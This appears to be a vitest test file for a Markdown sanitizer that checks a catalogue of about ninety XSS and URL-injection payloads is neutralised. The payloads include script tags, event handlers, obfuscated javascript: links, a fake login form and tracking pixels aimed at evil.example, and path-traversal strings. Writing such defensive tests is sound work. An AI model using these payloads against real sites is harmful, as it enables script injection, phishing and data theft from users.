import type { Element, Root, RootContent } from 'hast';
import { describe, expect, test } from 'vitest';
import { isSafeHref, isSafeImage } from './safe-url.ts';
import { markdownToHast } from './to-hast.ts';

const ALLOWED_TAGS = new Set(
  'h1 h2 h3 h4 h5 h6 p blockquote pre code hr br em strong del ul ol li input a img table thead tbody tr th td section sup'.split(
    ' ',
  ),
);
const ALLOWED_PROPERTIES = new Set(
  'href src alt title id className type checked disabled start align ariaDescribedBy ariaLabel dataFootnotes dataFootnoteRef dataFootnoteBackref'.split(
    ' ',
  ),
);

function elementsOf(node: Root | RootContent): Element[] {
  const own = node.type === 'element' ? [node] : [];
  return 'children' in node ? [...own, ...node.children.flatMap((child) => elementsOf(child))] : own;
}

/** Everything dangerous that is left in a tree; the list is closed: what is not known to be harmless counts. */
function dangersIn(tree: Root): string[] {
  const raw = JSON.stringify(tree).includes('"type":"raw"') ? ['raw HTML'] : [];
  return [
    ...raw,
    ...elementsOf(tree).flatMap((element) => [
      ...(ALLOWED_TAGS.has(element.tagName) ? [] : [`<${element.tagName}>`]),
      ...Object.entries(element.properties).flatMap(([name, value]) => {
        if (value === undefined || value === null) return [];
        if (!ALLOWED_PROPERTIES.has(name) || /^on/i.test(name)) return [`${element.tagName} ${name}`];
        if (name === 'href' && !/^(https:\/\/|mailto:|lesson:|term:|#)/.test(String(value))) return [`href ${value}`];
        if (name === 'src' && /^[\\/]|:|\.\.\//.test(String(value))) return [`src ${value}`];
        if (name === 'type' && value !== 'checkbox') return [`type ${value}`];
        return [];
      }),
    ]),
  ];
}

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><script>alert(1)</script></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<input type="image" src="x" onerror="alert(1)">',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<select autofocus onfocus=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?><script>alert(1)</script>',
  'x<br onmouseover=alert(1)>y',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](  javascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](&#1;javascript:alert(1))',
  '[x](\u00a0javascript:alert(1))',
  '[x](\u202ejavascript:alert(1))',
  '[x](jav&#x09;ascript:alert(1))',
  '[x](jav&#x0A;ascript:alert(1))',
  '[x](javascript://example.com/%0aalert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](blob:https://example.com/1)',
  '[x](file:///etc/passwd)',
  '[x](filesystem:https://example.com/x)',
  '[x](ftp://example.com)',
  '[x](http://example.com)',
  '[x](//evil.example)',
  '[x](/\\evil.example)',
  '[x](\\\\evil.example)',
  '[x](https:evil)',
  '[x](../../api)',
  '[x](/rpc/session/reset)',
  '[x](lesson:a/../b)',
  '[x](lesson:javascript:alert(1))',
  '[x]\n\n[x]: javascript:alert(1)',
  '[![x](javascript:alert(1))](javascript:alert(2))',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '![x](https://evil.example/pixel.gif)',
  '![x](//evil.example/pixel.gif)',
  '![x](/rpc/session/reset)',
  '![x](../../../etc/passwd)',
  '![x](%2e%2e/%2e%2e/x)',
  '![x](\\\\evil.example\\x)',
  '![x](a\\..\\..\\b)',
  '![x](https%3a//evil.example/x)',
  '![x](%)',
  '[x](# "onclick=alert(1)")',
  '![" onerror="alert(1)](x.png)',
  '```"><script>alert(1)</script>\nx\n```',
  '``` html onload=alert(1)\n<script>alert(1)</script>\n```',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '- [x] <img src=x onerror=alert(1)>',
  'x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))',
  '# <a name="x" id="app">x</a> {onclick=alert(1)}',
  'www.evil.example javascript:alert(1)',
  '<https://evil.example/"onmouseover="alert(1)>',
];

test('the table holds no input twice', () => {
  expect(new Set(HOSTILE).size).toBe(HOSTILE.length);
});

test.each(HOSTILE)('nothing dangerous is left of %j', (markdown) => {
  expect(dangersIn(markdownToHast(markdown))).toEqual([]);
});

test('nothing dangerous is left of all of them at once, and after other Markdown', () => {
  expect(dangersIn(markdownToHast(HOSTILE.join('\n\n')))).toEqual([]);
  for (const markdown of HOSTILE) {
    expect(dangersIn(markdownToHast(`> - ${markdown.replaceAll('\n', '\n>   ')}`))).toEqual([]);
  }
});

test('the test itself would find each danger', () => {
  const tree = (tagName: string, properties: Element['properties']): Root => ({
    type: 'root',
    children: [{ type: 'element', tagName, properties, children: [] }],
  });
  expect(dangersIn(tree('script', {}))).toHaveLength(1);
  expect(dangersIn(tree('a', { href: 'javascript:alert(1)' }))).toHaveLength(1);
  expect(dangersIn(tree('img', { src: '//evil.example' }))).toHaveLength(1);
  expect(dangersIn(tree('p', { onClick: 'x' }))).toHaveLength(1);
  expect(dangersIn(tree('p', { style: 'x' }))).toHaveLength(1);
});

describe('what a lesson needs is there', () => {
  const found = (markdown: string) => elementsOf(markdownToHast(markdown));
  const hrefs = (markdown: string) =>
    found(markdown)
      .map((one) => one.properties.href)
      .filter(Boolean);

  test('links to the web, to mail, to lessons and to tasks', () => {
    const markdown = '[a](https://example.com/a?b=c#d) [b](mailto:a@b.c) [c](lesson:create-a-book) [d](#register)';
    expect(hrefs(markdown)).toEqual([
      'https://example.com/a?b=c#d',
      'mailto:a@b.c',
      'lesson:create-a-book',
      '#register',
    ]);
    expect(hrefs('https://example.com')).toEqual(['https://example.com']);
  });
  test('images of the lesson', () => {
    expect(found('![a](flow.svg)').at(-1)?.properties).toEqual({ src: 'flow.svg', alt: 'a' });
    expect(found('![a](img/flow-1.png)').at(-1)?.properties.src).toBe('img/flow-1.png');
  });
  test('tables, task lists, code with its language and its file, footnotes', () => {
    expect(found('| a |\n|:-:|\n| b |').map((one) => one.tagName)).toContain('td');
    expect(found('- [x] a').find((one) => one.tagName === 'input')?.properties).toMatchObject({ disabled: true });
    const code = found('```ts src/app.ts\nx\n```').find((one) => one.tagName === 'code');
    expect(code?.properties.className).toEqual(['language-ts']);
    expect(code?.data).toMatchObject({ meta: 'src/app.ts' });
    expect(hrefs('a[^1]\n\n[^1]: b')).toEqual(['#user-content-fn-1', '#user-content-fnref-1']);
  });
  test('the text of refused links and HTML stays readable', () => {
    const text = JSON.stringify(markdownToHast('[read this](javascript:x) <b>bold</b>'));
    expect(text).toContain('read this');
    expect(text).toContain('bold');
  });
});

test.each([
  ['quotes', '>'.repeat(100_000)],
  ['lists', '- '.repeat(20_000)],
  ['open links', '[a]('.repeat(50_000)],
  ['backticks', 'a`` '.repeat(50_000)],
  ['size', 'x'.repeat(300_000)],
])('%s without end come back as plain text', (_name, markdown) => {
  expect(elementsOf(markdownToHast(markdown)).map((one) => one.tagName)).toEqual(['pre']);
});

test('addresses: the second gate alone', () => {
  expect(['https://a', 'mailto:a@b', 'lesson:a-b', 'term:etag', '#a'].every(isSafeHref)).toBe(true);
  expect(
    ['https:///a', 'https:\\\\a', 'javascript:1', 'HTTPS://a b', 'https://a/\u202egnp', '#', 'a', ''].some(isSafeHref),
  ).toBe(false);
  expect(['a.png', 'b/a.png', 'a.png?v=1'].every(isSafeImage)).toBe(true);
  expect(['/a.png', '../a.png', 'a/../../b', 'x:y', '', '%2fa', '%00'].some(isSafeImage)).toBe(false);
});
